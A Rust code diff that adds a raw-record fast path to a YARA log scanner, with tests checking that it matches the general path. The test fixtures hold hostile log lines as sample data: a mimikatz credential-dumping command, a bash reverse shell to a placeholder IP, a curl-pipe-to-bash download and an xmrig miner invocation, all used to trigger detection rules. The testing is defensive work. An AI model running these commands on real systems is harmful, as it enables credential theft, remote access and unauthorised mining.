@@ -295,6 +295,8 @@ pub struct YaraScanner<'r> {
     max_scan_bytes: usize,
     decode_base64: bool,
     prefilter: bool,
+    /// The raw record is the only target and nothing is decoded (see [`Self::collect_raw`]).
+    raw_only: bool,
     stats: YaraStats,
     /// The targets of the batch being collected, reused from call to call.
     pieces: Pieces,
@@ -338,6 +340,10 @@ impl<'r> YaraScanner<'r> {
             batch_scanner.set_timeout(timeout);
         }
         batch_scanner.max_matches_per_pattern(PREFILTER_MAX_MATCHES);
+        let fields = FieldIndex::new(&config.targets);
+        let raw_only = fields.empty
+            && !config.decode_base64
+            && config.targets.iter().any(|name| name == "raw");
         YaraScanner {
             rules,
             scanner: single(&rules.rules),
@@ -354,10 +360,11 @@ impl<'r> YaraScanner<'r> {
                 .iter()
                 .position(|name| name == "raw")
                 .unwrap_or_default(),
-            fields: FieldIndex::new(&config.targets),
+            fields,
             max_scan_bytes: config.max_scan_bytes.max(1),
             decode_base64: config.decode_base64,
             prefilter: config.prefilter,
+            raw_only,
             stats: YaraStats::default(),
             pieces: Pieces::default(),
             verdicts: Vec::new(),
@@ -386,14 +393,18 @@ impl<'r> YaraScanner<'r> {
         let mut pending_bytes = 0;
         for (index, event) in events.iter().enumerate() {
             self.stats.events += 1;
-            let before = pending.len();
-            self.collect_pieces(index, event, &mut scratch, &mut pending);
-            pending_bytes += pending
-                .get(before..)
-                .unwrap_or_default()
-                .iter()
-                .map(|piece: &Pending<'_>| piece.bytes.len().min(self.max_scan_bytes) + 1)
-                .sum::<usize>();
+            if self.raw_only {
+                pending_bytes += self.collect_raw(index, event, &mut pending);
+            } else {
+                let before = pending.len();
+                self.collect_pieces(index, event, &mut scratch, &mut pending);
+                pending_bytes += pending
+                    .get(before..)
+                    .unwrap_or_default()
+                    .iter()
+                    .map(|piece: &Pending<'_>| piece.bytes.len().min(self.max_scan_bytes) + 1)
+                    .sum::<usize>();
+            }
             if pending_bytes >= BATCH_BYTES {
                 self.scan_batch(events, &mut pending, &mut alerts);
                 pending_bytes = 0;
@@ -416,23 +427,23 @@ impl<'r> YaraScanner<'r> {
             return;
         }
         self.pieces.clear();
+        let (mut truncated, mut decoded) = (0, 0);
         for piece in pending.drain(..) {
-            self.pieces.push(
+            truncated += u64::from(self.pieces.push(
                 piece.event,
                 piece.target,
                 &piece.bytes,
                 piece.decoding,
                 self.max_scan_bytes,
-            );
+            ));
+            decoded += u64::from(piece.decoding.is_some());
         }
         let count = self.pieces.len();
         self.stats.targets_scanned += count as u64;
         // The buffer holds each target's scanned bytes and one separator.
         self.stats.bytes_scanned += self.pieces.buffer_len().saturating_sub(count) as u64;
-        for piece in self.pieces.list() {
-            self.stats.truncated += u64::from(piece.truncated);
-            self.stats.decoded_scanned += u64::from(piece.decoding.is_some());
-        }
+        self.stats.truncated += truncated;
+        self.stats.decoded_scanned += decoded;
         self.candidates();
         let mut verdicts = std::mem::take(&mut self.verdicts);
         // Most targets that are not clean raise an alert: one growth of the list, not several.
@@ -543,6 +554,28 @@ impl<'r> YaraScanner<'r> {
             self.verdicts
                 .extend((0..self.pieces.len()).map(|at| (at, Verdict::Rescan)));
         }
+    }
+
+    /// [`Self::collect_pieces`] when the raw record is the only target and nothing is decoded:
+    /// reads the record and nothing else of the event (the general path reads the core
+    /// fields a target could name, a cache miss on each of their lines for every event).
+    /// Returns the bytes the record takes in the batch.
+    fn collect_raw<'e>(&self, index: usize, event: &'e Event, out: &mut Vec<Pending<'e>>) -> usize {
+        let raw = match event.raw.as_deref() {
+            Some(text) => Cow::Borrowed(text.as_bytes()),
+            None => event.raw_bytes(),
+        };
+        if raw.is_empty() {
+            return 0;
+        }
+        let taken = raw.len().min(self.max_scan_bytes) + 1;
+        out.push(Pending {
+            event: index,
+            target: self.raw_target,
+            bytes: raw,
+            decoding: None,
+        });
+        taken
     }
 
     /// Appends the targets of `event` (number `index` in the call) and the payloads decoded
@@ -950,6 +983,114 @@ impl<'e> Iterator for FieldStrings<'e> {
         match self {
             FieldStrings::One(value) => value.take(),
             FieldStrings::Many(items) => items.by_ref().find_map(Value::as_str),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::PathBuf;
+
+    use citysoc_collector::{parse_record, InputFormat, ParseContext};
+
+    use super::*;
+
+    fn city_rules() -> YaraRuleSet {
+        let path = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../rules/yara"));
+        let (rules, problems) =
+            YaraRuleSet::load(&[path]).unwrap_or_else(|error| panic!("{error}"));
+        assert!(
+            problems.iter().all(|problem| problem.warning),
+            "{problems:?}"
+        );
+        rules
+    }
+
+    fn raw_only_config(max_scan_bytes: usize) -> YaraConfig {
+        YaraConfig {
+            targets: vec!["raw".into()],
+            decode_base64: false,
+            max_scan_bytes,
+            ..YaraConfig::default()
+        }
+    }
+
+    #[test]
+    fn only_a_raw_target_without_decoding_takes_the_raw_path() {
+        let rules = city_rules();
+        let raw_only = |targets: &[&str], decode_base64: bool| {
+            let config = YaraConfig {
+                targets: targets.iter().map(|name| (*name).to_owned()).collect(),
+                decode_base64,
+                ..YaraConfig::default()
+            };
+            YaraScanner::new(&rules, &config).raw_only
+        };
+        assert!(raw_only(&["raw"], false));
+        assert!(raw_only(&["raw", "raw"], false));
+        assert!(!raw_only(&["raw"], true));
+        assert!(!raw_only(&["raw", "message"], false));
+        assert!(!raw_only(&["message"], false));
+        assert!(!raw_only(&[], false));
+        assert!(!YaraScanner::new(&rules, &YaraConfig::default()).raw_only);
+    }
+
+    /// The raw-only path (`collect_raw`) gives the alerts and counts of the general one
+    /// (`collect_pieces`) on the same events: records kept as text or as base64, empty ones,
+    /// ones cut at the scan limit, matches in several batches.
+    #[test]
+    fn the_raw_path_equals_the_general_path() {
+        let rules = city_rules();
+        let mut context = ParseContext::new("test");
+        context.agency = Some("quan-1".into());
+        let filler = "x".repeat(90_000);
+        let mut lines: Vec<Vec<u8>> = vec![
+            b"m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit".to_vec(),
+            b"<13>Nov 22 08:00:01 host app: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1".to_vec(),
+            b"<30>Nov 22 08:50:00 gis-app-01 systemd[1]: Started Session 7 of user nguyenvana."
+                .to_vec(),
+            // Not UTF-8: the event keeps its raw bytes as base64.
+            b"<13>Nov 22 08:00:02 host app: \xff\xfe xmrig -o stratum+tcp://pool.supportxmr.com:3333"
+                .to_vec(),
+            Vec::new(),
+            format!("<13>Nov 22 08:00:03 host app: {filler} curl http://203.0.113.9/x.sh | bash")
+                .into_bytes(),
+            format!("<13>Nov 22 08:00:04 host app: curl http://203.0.113.9/x.sh | bash {filler}")
+                .into_bytes(),
+        ];
+        for round in 0..6 {
+            lines.push(
+                format!("<13>Nov 22 08:00:05 host app: {round} {filler} sekurlsa::logonpasswords")
+                    .into_bytes(),
+            );
+        }
+        let events: Vec<Event> = lines
+            .iter()
+            .enumerate()
+            .map(|(index, line)| parse_record(line, InputFormat::Auto, &context, index as u64))
+            .collect();
+        assert!(events
+            .iter()
+            .any(|event| event.raw.is_none() && event.raw_base64.is_some()));
+        for limit in [1024 * 1024, 50_000] {
+            let config = raw_only_config(limit);
+            let mut fast = YaraScanner::new(&rules, &config);
+            assert!(fast.raw_only);
+            let mut general = YaraScanner::new(&rules, &config);
+            general.raw_only = false;
+            let alerts = fast.scan_events(&events);
+            assert_eq!(alerts, general.scan_events(&events));
+            assert_eq!(fast.stats(), general.stats());
+            assert!(alerts.len() >= 4, "{alerts:?}");
+            assert!(fast.stats().batch_scans >= 2, "{:?}", fast.stats());
+            // One event at a time, as well.
+            let mut fast_each = YaraScanner::new(&rules, &config);
+            let mut general_each = YaraScanner::new(&rules, &config);
+            general_each.raw_only = false;
+            for event in &events {
+                assert_eq!(fast_each.scan_event(event), general_each.scan_event(event));
+            }
+            assert_eq!(fast_each.stats(), general_each.stats());
         }
     }
 }
